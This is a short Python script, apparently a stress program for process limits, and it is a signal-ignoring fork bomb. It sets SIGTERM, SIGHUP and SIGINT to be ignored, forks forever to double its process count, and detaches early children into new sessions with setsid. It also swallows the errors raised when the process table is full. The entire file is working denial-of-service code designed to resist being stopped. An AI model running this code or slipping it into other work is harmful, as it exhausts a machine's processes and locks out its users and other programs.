# Doubles its processes as often as it can; the first leave the session, and all ignore all signals that they can.
import os
import signal

# Each session gets as much of the processor as another, so 64 of them would keep everything else on the machine waiting.
SESSIONS = 8

for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(number, signal.SIG_IGN)
print("started", flush=True)
processes = 1
has_told = False
while True:
    try:
        is_child = os.fork() == 0
        processes *= 2
        if is_child and processes <= SESSIONS:
            os.setsid()
            print("left the session", flush=True)
    except BlockingIOError:
        if not has_told:
            print("full", flush=True)
            has_told = True
    except PermissionError:
        pass
